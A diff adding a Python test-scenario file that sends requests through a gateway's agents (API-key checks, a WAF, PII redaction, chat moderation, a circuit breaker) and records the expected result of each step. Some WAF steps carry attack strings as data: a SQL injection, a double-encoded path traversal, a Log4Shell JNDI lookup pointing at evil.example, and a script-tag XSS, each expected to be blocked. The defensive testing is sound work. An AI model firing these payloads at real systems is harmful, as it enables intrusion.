@@ -1,0 +1,187 @@
+"""The requests that are played, and what each should come to."""
+
+import time
+from collections.abc import Callable, Iterable
+from typing import Any, NamedTuple
+
+import httpx
+from websockets.exceptions import ConnectionClosed, InvalidStatus
+
+from .client import Client
+
+# Takes the client and the id that the request is to have; tells in a few words what came of it.
+Play = Callable[[Client, str], str]
+
+ALICE = {"x-api-key": "key-of-alice"}
+BOB = {"x-api-key": "key-of-bob"}
+ROOT = {"authorization": "Bearer token-of-root"}
+NOBODY: dict[str, str] = {}
+
+_SECRETS = ("@example", "4111", "3782", "555")
+_LABELS = ("[email]", "[phone]", "[card]")
+
+
+class Step(NamedTuple):
+    """``decided_by`` is the agent that stops the request, ``shadow`` one that would have stopped it."""
+
+    request: str
+    play: Play
+    expected: str
+    decided_by: str | None = None
+    shadow: str | None = None
+
+
+def _http(
+    method: str,
+    target: str,
+    headers: dict[str, str] = ALICE,
+    tell: Callable[[httpx.Response], str] = lambda response: "",
+    **body: Any,
+) -> Play:
+    def play(client: Client, request_id: str) -> str:
+        response = client.request(request_id, method, target, headers, **body)
+        return f"{response.status_code} {tell(response)}".strip()
+
+    return play
+
+
+def _header(name: str) -> Callable[[httpx.Response], str]:
+    return lambda response: response.headers.get(name, f"without {name}")
+
+
+def _redactions(texts: Iterable[str]) -> str:
+    text = " ".join(texts)
+    labels = [label for label in _LABELS if label in text]
+    return " ".join((*labels, "LEAKED") if any(secret in text for secret in _SECRETS) else labels)
+
+
+def _orders(response: httpx.Response) -> str:
+    return _redactions(str(order) for order in response.json())
+
+
+def _chat(topic: str) -> Play:
+    def play(client: Client, request_id: str) -> str:
+        started, tokens, times = time.monotonic(), [], []
+        with client.stream(request_id, f"/api/chat?prompt={topic}", ALICE) as response:
+            for line in response.iter_lines():
+                if line.startswith("data: "):
+                    tokens.append(line.removeprefix("data: "))
+                    times.append(time.monotonic() - started)
+        live = bool(times) and times[0] < times[-1] / 2
+        return f"{response.status_code} {_redactions([''.join(tokens)])}{', live' if live else ''}"
+
+    return play
+
+
+def _room(*messages: str, then: str) -> Play:
+    """Alice says ``messages``, and ``then`` something that is sure to pass; tells what Bob hears, or who is closed."""
+
+    def play(client: Client, request_id: str) -> str:
+        heard: list[str] = []
+        with (
+            client.websocket(f"{request_id}-bob", "/room/lounge", BOB) as bob,
+            client.websocket(request_id, "/room/lounge", ALICE) as alice,
+        ):
+            try:
+                for message in (*messages, then):
+                    alice.send(message)
+                while not heard or heard[-1] != f"alice: {then}":
+                    # Alice hears herself, too, once Bob was told: whoever is closed first ends the wait.
+                    heard.append(str(alice.recv(timeout=5)))
+            except ConnectionClosed as exc:
+                return f"closed {exc.rcvd.code if exc.rcvd else 'without a word'}"
+            return ", ".join(str(bob.recv(timeout=5)).removeprefix("alice: ") for _ in heard)
+
+    return play
+
+
+def _room_without_key(client: Client, request_id: str) -> str:
+    try:
+        with client.websocket(request_id, "/room/lounge", NOBODY):
+            return "accepted"
+    except InvalidStatus as exc:
+        return f"{exc.response.status_code} {exc.response.headers.get('www-authenticate', '')}"
+
+
+def _later(seconds: float, play: Play) -> Play:
+    def wait_and_play(client: Client, request_id: str) -> str:
+        time.sleep(seconds)
+        return play(client, request_id)
+
+    return wait_and_play
+
+
+SMALL_FILE = {"file": ("notes.txt", b"nothing much " * 100)}
+LARGE_FILE = {"file": ("film.bin", bytes(300 * 1024))}
+
+STEPS = (
+    Step("GET /healthz", _http("GET", "/healthz", NOBODY), "200"),
+    Step(
+        "GET /api/orders, no key",
+        _http("GET", "/api/orders", NOBODY, _header("www-authenticate")),
+        "401 ApiKey",
+        "api-key",
+    ),
+    Step("GET /api/orders", _http("GET", "/api/orders", tell=_orders), "200 [email] [phone] [card]"),
+    Step("POST /api/orders", _http("POST", "/api/orders", json={"item": "chair"}), "201"),
+    Step(
+        "GET /old-orders?q=lamp",
+        _http("GET", "/old-orders?q=lamp", NOBODY, _header("location")),
+        "308 /api/orders?q=lamp",
+        "waf",
+    ),
+    Step(
+        "GET /admin/stats, no token",
+        _http("GET", "/admin/stats", ALICE, _header("www-authenticate")),
+        '401 Bearer realm="admin"',
+        "api-key",
+    ),
+    Step("GET /admin/stats, with token", _http("GET", "/admin/stats", ROOT), "200"),
+    Step("GET ?q=lamp' OR '1'='1", _http("GET", "/api/orders?q=lamp%27%20OR%20%271%27=%271"), "403", "waf"),
+    Step(
+        "GET ?q=..%252f..%252fboot",
+        _http("GET", "/api/orders?q=..%252f..%252fboot"),
+        "403",
+        "waf",
+    ),
+    Step(
+        "user-agent: ${jndi:ldap:...",
+        _http("GET", "/api/orders", {**ALICE, "user-agent": "${jndi:ldap://evil.example/a}"}),
+        "403",
+        "waf",
+    ),
+    Step(
+        "POST note=<script>...",
+        _http("POST", "/api/orders", json={"item": "desk", "note": "<script>alert(1)</script>"}),
+        "403",
+        "waf",
+    ),
+    Step("GET ?q=select wood", _http("GET", "/api/orders?q=select%20wood"), "200", shadow="waf-next"),
+    Step("POST /api/upload, 1 kB", _http("POST", "/api/upload", files=SMALL_FILE), "200"),
+    Step("POST /api/upload, 300 kB", _http("POST", "/api/upload", files=LARGE_FILE), "413", "waf"),
+    Step("SSE /api/chat?prompt=contact", _chat("contact"), "200 [email] [phone], live"),
+    Step("SSE /api/chat?prompt=payment", _chat("payment"), "200 [email] [card], live"),
+    Step(
+        "POST /api/chat, card in prompt",
+        _http(
+            "POST",
+            "/api/chat",
+            json={"prompt": "Charge 4111 1111 1111 1111"},
+            tell=lambda response: response.json()["detail"].partition(". ")[2],
+        ),
+        "422 Found: card",
+    ),
+    Step("WS /room, no key", _room_without_key, "401 ApiKey", "api-key"),
+    Step("WS /room, hello", _room(then="hello"), "hello"),
+    Step("WS /room, an insult, sorry", _room("you idiot", then="sorry"), "sorry", "moderator"),
+    Step("WS /room, three insults", _room("idiot", "moron", "nitwit", then="bye"), "closed 4003", "moderator"),
+    Step("GET /demo/flaky, its agent fails", _http("GET", "/demo/flaky", NOBODY), "503", "flaky"),
+    Step("GET /demo/flaky, fails again", _http("GET", "/demo/flaky", NOBODY), "503", "flaky"),
+    Step(
+        "GET /demo/flaky, breaker open",
+        _http("GET", "/demo/flaky", NOBODY, lambda response: f"retry-after {response.headers.get('retry-after')}"),
+        "503 retry-after 1",
+        "flaky",
+    ),
+    Step("GET /demo/flaky, 1 s later", _later(1.1, _http("GET", "/demo/flaky", NOBODY)), "200"),
+)
